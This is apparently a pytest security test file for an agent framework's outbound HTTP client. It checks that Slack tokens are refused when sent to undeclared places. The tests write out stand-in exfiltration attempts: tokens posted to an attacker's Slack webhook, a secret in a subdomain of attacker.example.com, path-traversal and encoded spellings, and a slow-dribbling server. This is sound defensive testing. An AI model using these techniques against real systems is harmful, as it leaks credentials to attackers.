"""The outbound client as an insider would attack it (issue 19, findings 1, 7, 10): a template (or an
agent's own code) choosing where a secret goes, a server dribbling its answer, addresses Python 3.11
counts as public.

Every request here goes to a fake server on 127.0.0.1, with names resolved by a table: the fake plays
Slack, the attacker's Slack workspace, and any other host; none of the refused requests may reach it.
"""

from __future__ import annotations

import base64
import ipaddress
import socket
import threading
import time
from collections.abc import Iterator
from urllib.parse import quote, quote_plus, urlsplit

import boto3
import pytest
from moto import mock_aws

from serverless_agents import get_agent_secret
from serverless_agents.exceptions import DestinationRefused, DestinationUnavailable
from serverless_agents.security.outbound import OutboundClient, non_public_kind
from serverless_agents.security.secrets import forget_secrets
from tests.agent_function import agent_function
from tests.functional.fake_http import FakeHttpServer, Reply
from tests.unit.test_outbound import LOOPBACK, RecordingResolver

#: Characters that URL-encode (`/`, `+`, `=`), so its percent-encoded spellings differ from it.
TOKEN = "xoxb-1234/5678+abcd=EFGH"
#: A secret that is also a valid DNS label (whose case the URL parser folds).
LABEL = "xoxp-98765-AbCd"
#: The org's bot tokens may go to Slack's Web API, in the Authorization header, and nowhere else.
MANIFEST = """
[agents.webhook]
class = "serverless_agents.agents.webhook:WebhookAgent"

[agents.webhook.secrets.slack_token]
id = "slack-bot-token"
destinations = [{ host = "slack.com", path = "/api/", in = ["header"] }]

[agents.webhook.secrets.user_token]
id = "slack-user-token"
destinations = [{ host = "slack.com", path = "/api/", in = ["header"] }]
"""


@pytest.fixture(scope="module")
def fake_server() -> Iterator[FakeHttpServer]:
    with FakeHttpServer(Reply(200, "ok")) as server:
        yield server


@pytest.fixture
def fake(fake_server: FakeHttpServer) -> FakeHttpServer:
    fake_server.reset()
    return fake_server


@pytest.fixture(scope="module")
def token(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The webhook agent's environment, its tokens read (so remembered) as the agent reads them."""
    tmp_path = tmp_path_factory.mktemp("insider-outbound")
    with mock_aws():
        secretsmanager = boto3.client("secretsmanager", region_name="us-east-1")
        secretsmanager.create_secret(Name="slack-bot-token", SecretString=TOKEN)
        secretsmanager.create_secret(Name="slack-user-token", SecretString=LABEL)
        manifest = tmp_path / "agents.toml"
        manifest.write_text(MANIFEST)
        variables = {
            "SA_TASKS_TABLE": "t",
            "SA_PAYLOAD_BUCKET": "b",
            "SA_MANIFEST": str(manifest),
            "SA_AGENT": "webhook",
            "AWS_DEFAULT_REGION": "us-east-1",
        }
        forget_secrets()
        with agent_function(variables):
            get_agent_secret("user_token")
            yield get_agent_secret("slack_token")
        forget_secrets()


def _client(fake: FakeHttpServer, allowed_hosts: list[str] | None = None) -> OutboundClient:
    """Slack's names and any other resolve to the fake on 127.0.0.1."""
    resolver = RecordingResolver(default=["127.0.0.1"])
    return OutboundClient(allowed_hosts, LOOPBACK, resolver=resolver)


def _port(fake: FakeHttpServer) -> int:
    return int(urlsplit(fake.url).port or 0)


def _send(
    fake: FakeHttpServer, url: str, headers: dict[str, str], body: bytes | None, method: str = "POST"
) -> None:
    client = _client(fake, ["slack.com", "hooks.slack.com"])
    client.send(client.destination(url.format(port=_port(fake)), "custom.url"), method, headers, body, 5)


def test_the_declared_destination_gets_the_secret(token: str, fake: FakeHttpServer) -> None:
    """The control: where the manifest lets it go, the secret goes."""
    headers = {"Authorization": f"Bearer {token}"}

    _send(fake, "http://slack.com:{port}/api/chat.postMessage", headers, b'{"text": "hi"}')

    assert fake.last().headers["authorization"] == f"Bearer {token}"


def test_the_org_token_never_reaches_another_slack_workspace(token: str, fake: FakeHttpServer) -> None:
    """Finding 1: hooks.slack.com is allowed, and the path names whose workspace receives the post."""
    body = b'{"text": "%s"}' % token.encode()

    with pytest.raises(DestinationRefused) as refused:
        _send(fake, "http://hooks.slack.com:{port}/services/TATTACKER/B0/x", {}, body)

    assert refused.value.field == "secrets.slack_token"
    assert "hooks.slack.com carries it in the body" in str(refused.value)
    assert fake.requests == []


@pytest.mark.parametrize(
    ("url", "headers", "body"),
    [
        # Only the header is declared: the body, the query and the path are not.
        ("http://slack.com:{port}/api/chat.postMessage", {}, '{"text": "%(token)s"}'),
        ("http://slack.com:{port}/api/chat.postMessage?text=%(plus)s", {}, None),
        ("http://slack.com:{port}/api/%(quoted)s/x", {}, None),
        # The header, outside the path prefix, in the spellings a server reads as another path.
        ("http://slack.com:{port}/files/upload", {"Authorization": "Bearer %(token)s"}, None),
        ("http://slack.com:{port}/api/../files/upload", {"Authorization": "Bearer %(token)s"}, None),
        ("http://slack.com:{port}/api/%%2e%%2e/files", {"Authorization": "Bearer %(token)s"}, None),
        ("http://slack.com:{port}/api/%%2E%%2E%%2Ffiles", {"Authorization": "Bearer %(token)s"}, None),
        ("http://slack.com:{port}/apix/chat", {"Authorization": "Bearer %(token)s"}, None),
        # Another host the agent may call, in the declared part.
        ("http://hooks.slack.com:{port}/api/x", {"Authorization": "Bearer %(token)s"}, None),
        # Other spellings, to an undeclared place: percent-encoded, base64 (Basic auth).
        ("http://slack.com:{port}/other/%(quoted)s", {}, None),
        ("http://slack.com:{port}/other", {"Authorization": "Basic %(base64)s"}, None),
        ("http://slack.com:{port}/api/x", {}, "token=%(plus)s"),
    ],
)
def test_a_secret_goes_nowhere_its_destinations_do_not_declare(
    token: str, fake: FakeHttpServer, url: str, headers: dict[str, str], body: str | None
) -> None:
    spellings = {
        "token": token,
        "quoted": quote(token, safe=""),
        "plus": quote_plus(token),
        "base64": base64.b64encode(token.encode()).decode(),
    }
    with pytest.raises(DestinationRefused, match=r"^secrets\.slack_token: ") as refused:
        _send(
            fake,
            url % spellings,
            {k: v % spellings for k, v in headers.items()},
            (body % spellings).encode() if body else None,
        )

    assert token not in str(refused.value)
    assert fake.requests == []


def test_a_secret_in_a_host_name_is_refused_before_the_lookup(token: str, fake: FakeHttpServer) -> None:
    """`<secret>.attacker.example.com` would hand the secret to the attacker's DNS server."""
    resolver = RecordingResolver()
    client = OutboundClient(["*.example.com"], LOOPBACK, resolver=resolver)

    with pytest.raises(DestinationRefused, match=r"^secrets\.user_token: a secret never goes in a host name"):
        client.destination(f"https://{LABEL}.attacker.example.com/", "custom.url")

    assert resolver.asked == []


def test_an_agent_with_secrets_calls_only_its_secrets_hosts_by_default(
    token: str, fake: FakeHttpServer
) -> None:
    """Finding 1: `allowed_hosts` unset meant any host, for an agent holding a token."""
    client = _client(fake, allowed_hosts=None)

    with pytest.raises(DestinationRefused, match=r"host 'collector\.example\.net' is not one its secrets'"):
        client.destination(f"http://collector.example.net:{_port(fake)}/x", "custom.url")
    assert client.destination(f"http://slack.com:{_port(fake)}/api/x", "custom.url").host == "slack.com"


# Finding 7: one overall deadline per call.


class DribblingServer:
    """Answers every connection with response headers at one byte every 0.5 s, for about 45 s."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self.port = self._listener.getsockname()[1]

    def _serve(self) -> None:
        self._listener.settimeout(0.2)
        while not self._stop.is_set():
            try:
                connection, _ = self._listener.accept()
            except TimeoutError:
                continue
            threading.Thread(target=self._dribble, args=(connection,), daemon=True).start()

    def _dribble(self, connection: socket.socket) -> None:
        headers = b"HTTP/1.1 200 OK\r\nX-Padding: " + b"x" * 34 + b"\r\nContent-Length: 2\r\n\r\nok"
        with connection:
            connection.recv(65536)
            for byte in headers:
                if self._stop.wait(0.5):
                    return
                try:
                    connection.sendall(bytes([byte]))
                except OSError:  # the client hung up: what the deadline should make it do
                    return

    def __enter__(self) -> DribblingServer:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()
        self._listener.close()


def test_a_server_dribbling_its_headers_cannot_stretch_the_call_past_its_deadline() -> None:
    with DribblingServer() as server:
        client = OutboundClient(["127.0.0.1"], LOOPBACK)
        destination = client.destination(f"http://127.0.0.1:{server.port}/hook", "custom.url")
        started = time.monotonic()

        with pytest.raises(DestinationUnavailable, match=r"^no answer within 1 s$"):
            client.send(destination, "POST", {}, b"{}", 1.0)

        # The dribble lasts ~45 s; per-recv timeouts would wait it out. No tighter bound: a shared machine.
        assert time.monotonic() - started < 30


# Finding 10: the project's own table of non-public networks, the same on every Python.

#: A representative address from every IANA special-purpose block not globally reachable, and the
#: other non-public ranges the table holds. Python 3.11's `is_private` misses 192.0.0.192 and fec0::/10.
NON_PUBLIC = [
    "0.0.0.0",
    "0.1.2.3",
    "10.1.2.3",
    "100.64.0.1",
    "100.127.255.254",
    "127.0.0.1",
    "127.255.255.254",
    "169.254.1.1",
    "169.254.169.254",
    "172.16.0.1",
    "172.31.255.254",
    "192.0.0.1",
    "192.0.0.8",
    "192.0.0.170",
    "192.0.0.192",
    "192.0.0.255",
    "192.0.2.1",
    "192.88.99.1",
    "192.168.1.1",
    "198.18.0.1",
    "198.19.255.254",
    "198.51.100.1",
    "203.0.113.1",
    "224.0.0.251",
    "239.255.255.250",
    "240.0.0.1",
    "255.255.255.255",
    "::",
    "::1",
    "::2",  # IPv4-compatible (deprecated) and the rest of ::/8
    "64:ff9b:1::1",
    "100::1",
    "100:0:0:1::1",
    "2001::1",
    "2001:2::1",
    "2001:10::1",
    "2001:db8::1",
    "3fff::1",
    "5f00::1",
    "fc00::1",
    "fd12:3456::1",
    "fe80::1",
    "fec0::1",
    "feff::1",
    "ff02::1",
    "4000::1",  # outside 2000::/3, unassigned
    "::ffff:192.0.0.192",
    "::ffff:10.0.0.1",
    "2002:c000:00c0::1",  # 6to4 around 192.0.0.192
    "64:ff9b::c000:c0",  # NAT64 around 192.0.0.192
]
PUBLIC = ["93.184.215.14", "8.8.8.8", "2606:2800:21f:cb07:6820:80da:af6b:8b2c", "::ffff:93.184.215.14"]


@pytest.mark.parametrize("address", NON_PUBLIC)
def test_every_special_purpose_block_is_non_public_on_any_python(address: str) -> None:
    assert non_public_kind(ipaddress.ip_address(address)) is not None


@pytest.mark.parametrize("address", PUBLIC)
def test_public_addresses_stay_public(address: str) -> None:
    assert non_public_kind(ipaddress.ip_address(address)) is None
